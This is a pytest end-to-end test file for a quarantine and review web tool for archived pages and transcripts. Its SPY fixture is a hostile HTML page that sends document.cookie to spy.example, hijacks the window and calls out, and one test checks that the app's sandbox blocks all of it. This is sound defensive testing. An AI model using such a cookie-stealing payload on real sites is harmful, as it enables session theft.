"""An operator works the quarantine and the review list in a real browser; a stored page that would spy is dead."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe

from tests.browsing import DESK, PHONE, Browsing, browsing
from tests.end_to_end.house import House
from tests.transcripts.importing import Hand

pytestmark = [pytest.mark.end_to_end, pytest.mark.full, pytest.mark.timeout(600)]

#: A page of the sample's old portal without a layout, which writes to the console, calls out, leads away and takes the window.
SPY = b"""<html><head><meta http-equiv="refresh" content="0;url=https://spy.example/refresh">
<link rel="preconnect" href="https://spy.example"><link rel="stylesheet" href="https://spy.example/s.css">
<script>console.error("alive"); top.location = "https://spy.example/top"; fetch("https://spy.example/" + document.cookie)</script>
<style>@import "https://spy.example/i.css"; p { background: url(https://spy.example/b.gif) }</style></head>
<body onload="console.error('alive')"><img src="https://spy.example/p.gif" onerror="console.error('alive')">
<p>A harbour is named on this page, which has no layout.</p><iframe src="https://spy.example/f"></iframe>
<form action="https://spy.example/form"><button>Send</button></form><a href="https://spy.example/away">away</a></body></html>"""
NUMBERS = (1900001, 1900002)


def record(house: House, number: int) -> str:
    return str(house.value("SELECT record_id::text AS r FROM archive.snapshot WHERE site_id = %s", f"bitrix/{number}"))


@pytest.fixture(scope="module")
def queued(installed: House, tmp_path_factory: pytest.TempPathFactory) -> House:
    """Two pages that somebody else captured stand in quarantine."""
    file = tmp_path_factory.mktemp("captured") / "captures.warc"
    with Hand(file, compressed=False) as hand:
        for number in NUMBERS:
            hand.answer(f"https://archive.talvia.example/en/foreign_policy/news/{number}/", SPY, at=number - NUMBERS[0])
    installed.make("transcripts", f"ARGS=import {file}")
    installed.make("transcripts", "ARGS=process")
    assert (
        installed.value("SELECT count(*) AS n FROM pipeline.quarantine_queue WHERE site_id LIKE 'bitrix/190000%%'") == 2
    )
    return installed


@pytest.fixture(scope="module")
def reviewed(installed: House) -> str:
    """A document of the sample, whose month has none in doubt."""
    chosen = "SELECT document_id FROM analysis.transcripts WHERE turns > 5 AND language = 'en' ORDER BY 1 LIMIT 1"
    return str(installed.value(chosen))


def shot(it: Browsing, name: str) -> None:
    if folder := os.environ.get("SHOTS"):
        it.shot(Path(folder) / f"{name}.png")


def accessible(it: Browsing) -> None:
    """No serious violation by axe, and no sideways scrolling."""
    found = Axe().run(it.page).response["violations"]
    assert [
        f"{one['id']}: {one['nodes'][0]['html'][:200]}" for one in found if one["impact"] in ("serious", "critical")
    ] == []
    assert it.page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), "the page scrolls sideways"


def test_a_stored_page_that_would_spy_is_dead(queued: House) -> None:
    with browsing(queued) as it:
        asked: list[str] = []
        it.page.on("request", lambda request: asked.append(request.url))
        page = it.open(f"/quarantine/{record(queued, NUMBERS[0])}")
        frame = page.frame_locator("iframe.stored")
        frame.get_by_text("A harbour is named").wait_for()
        page.wait_for_timeout(500)
        inner = next(one for one in page.frames if "/stored/" in one.url)
        assert inner.evaluate("window.origin") == "null", "an origin of its own: no cookie of ours is in reach"
        frame.get_by_text("away").click()
        page.wait_for_timeout(500)
        assert not [one for one in asked if "spy.example" in one]
        assert page.url.startswith(it.pages) and page.title().startswith("https://archive.talvia.example")
        assert not [one for one in it.complaints if "alive" in one]
        # Also where it is opened without our frame.
        it.open(f"/stored/{record(queued, NUMBERS[0])}")
        page.wait_for_timeout(300)
        assert page.evaluate("window.origin") == "null"
        assert not [one for one in asked if "spy.example" in one]


def test_the_quarantine_is_worked(queued: House) -> None:
    key = record(queued, NUMBERS[1])
    with browsing(queued) as it:
        page = it.open("/quarantine")
        page.get_by_role("link", name="unknown_layout").click()
        page.wait_for_url("**/quarantine?*unknown_layout*")
        page.get_by_role("link", name=f"bitrix/{NUMBERS[1]}").click()
        page.wait_for_url(f"**/quarantine/{key}*")
        # By keyboard: a click right after scrolling lands in the stored page's frame, which Chromium draws by itself.
        page.get_by_role("button", name="Read again", exact=True).press("Enter")
        page.get_by_text("It is read again by the next run").wait_for()
        queued.make("transcripts", "ARGS=process")
        it.open(f"/quarantine/{key}")
        page.get_by_text("In quarantine:").wait_for()
        page.get_by_label("Why").fill("a timetable")
        page.get_by_role("button", name="Set aside", exact=True).press("Enter")
        page.get_by_role("status").get_by_text("It is set aside").wait_for()
        page.get_by_role("listitem").filter(has_text="a timetable").filter(has_text="admin").wait_for()
        page.get_by_label("Why").fill("it is one")
        page.get_by_role("button", name="Take back").press("Enter")
        page.get_by_role("status").get_by_text("That is taken back").wait_for()
        assert it.complaints == []


def test_a_speaker_is_corrected_and_a_document_suppressed_and_shown_again(queued: House, reviewed: str) -> None:
    there = f"SELECT count(*) AS n FROM analysis.transcripts WHERE document_id = '{reviewed}'"
    with browsing(queued) as it:
        page = it.open(f"/review/{reviewed}?every=1")
        page.get_by_role("link", name="correct turn").first.click()
        page.get_by_label("Person (id").fill("nobody-known")
        form = page.locator("form.fields").filter(has=page.get_by_label("Person (id"))
        form.get_by_label("Why").fill("I was there")
        form.get_by_role("button").click()
        page.get_by_role("alert").first.get_by_text("is not in transcripts/data/people").wait_for()
        assert page.get_by_label("Person (id").input_value() == "nobody-known"
        page.get_by_label("Person (id").fill("")
        page.get_by_label("Outlet").fill("Harbour TV")
        form.get_by_label("Why").fill("I was there")
        form.get_by_role("button").click()
        page.get_by_role("status").get_by_text("Noted").wait_for()
        page.get_by_text("outlet=Harbour TV").wait_for()
        taken = page.get_by_role("listitem").filter(has_text="outlet=Harbour TV")
        taken.get_by_label("Why").fill("a mistake")
        taken.get_by_role("button", name="Take back").click()
        page.get_by_text("taken back by").wait_for()
        form = page.locator("form.fields").filter(has=page.get_by_role("button", name="Suppress it"))
        form.get_by_label("Why").fill("a person asked for it")
        form.get_by_role("button").click()
        page.get_by_role("status").get_by_text("It is suppressed").wait_for()
        shot(it, "suppressed")
        assert queued.value(there) == 0
        page.get_by_label("Why").fill("settled")
        page.get_by_role("button", name="Show it again").click()
        page.get_by_role("status").get_by_text("shown again").wait_for()
        assert queued.value(there) == 1
        refused = [one for one in it.complaints if "422" not in one]
        assert refused == [], "but for the answer that refuses the unknown person"


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("size", [DESK, PHONE], ids=["desk", "phone"])
def test_every_page_is_accessible_and_quiet(queued: House, reviewed: str, dark: bool, size: dict[str, int]) -> None:
    name = f"{'dark' if dark else 'light'}-{size['width']}"
    turn = queued.value("SELECT turn_id FROM analysis.turns WHERE document_id = %s ORDER BY ordinal LIMIT 1", reviewed)
    paths = {
        "queue": "/quarantine",
        "page": f"/quarantine/{record(queued, NUMBERS[0])}",
        "review": "/review",
        "document": f"/review/{reviewed}?turn={turn}&every=1",
        "suppressed-list": "/suppressed",
    }
    with browsing(queued, dark=dark, size=size) as it:
        for what, path in paths.items():
            it.open(path)
            accessible(it)
            shot(it, f"{what}-{name}")
        assert it.complaints == []
